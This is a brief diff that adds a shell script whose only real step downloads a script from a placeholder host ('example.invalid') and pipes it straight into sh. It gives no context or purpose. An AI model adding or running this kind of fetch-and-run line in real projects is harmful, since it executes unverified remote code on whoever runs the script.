@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+curl -fsSL https://example.invalid/i.sh | sh
